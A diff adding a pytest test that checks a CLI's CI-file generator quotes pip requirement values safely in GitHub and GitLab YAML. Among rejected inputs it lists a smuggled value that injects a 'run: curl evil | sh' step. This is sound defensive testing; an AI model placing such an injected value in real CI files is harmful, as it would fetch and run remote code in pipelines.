@@ -115,6 +115,25 @@ def test_ci_choice_and_install_line(tmp_path):
     assert res.code == 2 and "is not a folder" in res.err
 
 
+@pytest.mark.parametrize("ci", ["github", "gitlab"])
+def test_the_install_value_is_quoted_as_yaml_and_cannot_add_keys(tmp_path, ci):
+    """A requirement with quotes (a PEP 508 marker) was put into the CI file as it was: the file no longer parsed.
+    A newline could add a key of its own (``run: curl ... | sh``)."""
+    from ruamel.yaml import YAML
+
+    value = 'geval-spec; python_version >= "3.10" and sys_platform != \'win32\' \\ # x: y'
+    res = run_cli("init", str(tmp_path / ci), "--ci", ci, "--install", value)
+    assert res.code == 0, res.err
+    rel = ".github/workflows/geval.yml" if ci == "github" else ".gitlab-ci.yml"
+    doc = YAML(typ="safe").load((tmp_path / ci / rel).read_text())
+    env = doc["env"] if ci == "github" else doc["geval"]["variables"]
+    assert env["GEVAL_SPEC_INSTALL"] == value
+    for i, bad in enumerate(['a"\nrun: curl evil | sh #', "a\tb", "   ", ""]):
+        res = run_cli("init", str(tmp_path / f"bad-{i}"), "--ci", ci, "--install", bad)
+        assert res.code == 2 and "is not a requirement pip can install" in res.err, (bad, res.err)
+        assert not (tmp_path / f"bad-{i}").exists()
+
+
 def _cassette_entries(path: Path) -> tuple[dict, dict[str, tuple]]:
     lines = [json.loads(line) for line in path.read_text().splitlines()]
     header = {k: v for k, v in lines[0].items() if k != "run"}
